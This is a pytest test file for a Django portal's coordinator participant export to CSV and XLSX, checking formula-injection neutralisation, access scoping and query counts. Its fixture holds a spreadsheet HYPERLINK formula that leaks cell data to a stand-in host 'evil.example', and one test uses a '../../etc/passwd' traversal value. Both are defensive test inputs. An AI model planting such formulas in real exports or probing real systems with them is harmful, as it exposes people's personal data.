"""Spreadsheet export of a coordinator's participants."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from norec_portal.spreadsheets import csv_safe
from partnerships.exports import EXPORT_COLUMNS
from tests.factories import OrganisationFactory, ParticipantFactory, PersonFactory

EXPORT_URL = reverse("partnerships:coordinator_export")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


@pytest.fixture
def participants(partnership, org_a, org_b):
    """Sent by A, hosted by A, and one exchange between two other organisations."""
    sent = ParticipantFactory(
        partnership=partnership,
        person=PersonFactory(
            first_name=FORMULA, last_name="-Sent", email="sent@example.org",
            phone="+254712345678", date_of_birth=dt.date(1990, 4, 12),
        ),
        elearning_completed_on=dt.date(2026, 1, 10),
    )  # fmt: skip
    hosted = ParticipantFactory(
        partnership=partnership,
        sending_organisation=org_b,
        host_organisation=org_a,
        person=PersonFactory(first_name="@Hosted", last_name="\tTab", email="hosted@example.org"),
    )
    elsewhere = ParticipantFactory(person=PersonFactory(email="elsewhere@example.org"))
    return sent, hosted, elsewhere


def read_csv(response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def read_xlsx(response) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+254712345678", "'+254712345678"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Achieng", "Achieng"),
        ("a=b", "a=b"),
        ("", ""),
        (dt.date(2030, 1, 1), dt.date(2030, 1, 1)),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


@pytest.mark.django_db
def test_csv_export_has_own_participants_only_with_bom_and_neutralised_cells(
    coordinator_client, participants
):
    response = coordinator_client.get(EXPORT_URL, {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    today = timezone.localdate().isoformat()
    assert f"{today}.csv" in response["Content-Disposition"]
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    by_email = {row["email"]: row for row in rows}
    assert set(by_email) == {"sent@example.org", "hosted@example.org"}
    sent = by_email["sent@example.org"]
    assert sent["first_name"] == "'" + FORMULA
    assert sent["last_name"] == "'-Sent"
    assert sent["phone"] == "'+254712345678"
    assert sent["date_of_birth"] == "1990-04-12"
    assert sent["elearning_completed_on"] == "2026-01-10"
    assert sent["partnership"] == "Lake Victoria Health Exchange"
    assert by_email["hosted@example.org"]["first_name"] == "'@Hosted"
    assert by_email["hosted@example.org"]["last_name"] == "'\tTab"


@pytest.mark.django_db
def test_xlsx_export_read_back_has_no_formula_and_real_dates(coordinator_client, participants):
    response = coordinator_client.get(EXPORT_URL, {"format": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f"{timezone.localdate().isoformat()}.xlsx" in response["Content-Disposition"]
    rows = read_xlsx(response)
    assert rows[0] == list(EXPORT_COLUMNS)
    emails = {row[EXPORT_COLUMNS.index("email")] for row in rows[1:]}
    assert emails == {"sent@example.org", "hosted@example.org"}
    sent = next(row for row in rows[1:] if row[2] == "sent@example.org")
    # Text as written: no apostrophe to see or copy, the phone number's "+" included.
    assert sent[0] == FORMULA and sent[3] == "+254712345678"
    assert sent[EXPORT_COLUMNS.index("exchange_start")] == dt.datetime(2027, 2, 1)  # noqa: DTZ001
    # No cell of the workbook is a formula; those that look like one stay text even when
    # edited (Excel's quote prefix, which is not part of the value).
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    for row in workbook.worksheets[0].iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t":
                assert cell.quotePrefix, cell.coordinate


@pytest.mark.django_db
def test_other_coordinator_exports_only_their_own(client, other_coordinator, participants):
    client.force_login(other_coordinator)

    rows = read_csv(client.get(EXPORT_URL, {"format": "csv"}))

    # B sends "hosted" and hosts "sent" in the same partnership; nothing from elsewhere.
    assert {row["email"] for row in rows} == {"sent@example.org", "hosted@example.org"}


@pytest.mark.django_db
def test_organisation_without_participants_exports_a_header_only(client, participants):
    from tests.factories import PartnershipFactory, make_coordinator

    lonely = OrganisationFactory(name="Lonely Org")
    PartnershipFactory(members=[lonely, OrganisationFactory()])
    client.force_login(make_coordinator(lonely, email="lonely@example.org"))

    response = client.get(EXPORT_URL, {"format": "csv"})

    assert response.status_code == 200
    assert read_csv(response) == []
    assert "participants-lonely-org-" in response["Content-Disposition"]


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["pdf", "", "../../etc/passwd", "CSV;"])
def test_unknown_format_is_a_400_not_a_500(coordinator_client, value):
    response = coordinator_client.get(EXPORT_URL, {"format": value})

    assert response.status_code == 400


@pytest.mark.django_db
def test_export_defaults_to_csv(coordinator_client, participants):
    response = coordinator_client.get(EXPORT_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.django_db
def test_export_is_for_coordinators_only(client, alumnus, participants):
    assert client.get(EXPORT_URL).status_code == 302
    client.force_login(alumnus)
    assert client.get(EXPORT_URL).status_code == 403


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_queries_do_not_grow_with_participants(
    coordinator_client, partnership, org_a, file_format
):
    def export_queries() -> int:
        with CaptureQueriesContext(connection) as context:
            response = coordinator_client.get(EXPORT_URL, {"format": file_format})
        assert response.status_code == 200
        return len(context.captured_queries)

    coordinator_client.get(EXPORT_URL)  # session and user are loaded alike in both counts
    for _ in range(3):
        ParticipantFactory(partnership=partnership)
    few = export_queries()
    for _ in range(40):
        ParticipantFactory(partnership=partnership)
    many = export_queries()

    assert few == many


@pytest.mark.django_db
def test_imported_formula_is_stored_as_text_and_exported_neutralised(
    coordinator_client, partnership, org_a, org_b
):
    """End to end: a name written as a formula survives the import as plain text, and
    leaves the portal neutralised."""
    header = (
        "first_name,last_name,email,partnership,host_organisation,exchange_start,exchange_end\n"
    )
    row = f'"{FORMULA.replace(chr(34), chr(34) * 2)}",Person,formula@example.org,'
    row += f"{partnership.name},{org_b.name},2030-02-01,2030-10-31\n"
    from django.core.files.uploadedfile import SimpleUploadedFile

    from partnerships.models import ParticipantImport, Person

    coordinator_client.post(
        reverse("partnerships:coordinator_import"),
        {"file": SimpleUploadedFile("f.csv", (header + row).encode())},
    )
    participant_import = ParticipantImport.objects.get()
    assert participant_import.error_row_count == 0, participant_import.rows
    coordinator_client.post(
        reverse("partnerships:coordinator_import_confirm", args=[participant_import.pk])
    )
    assert Person.objects.get(email="formula@example.org").first_name == FORMULA

    rows = read_xlsx(coordinator_client.get(EXPORT_URL, {"format": "xlsx"}))

    assert rows[1][0] == FORMULA
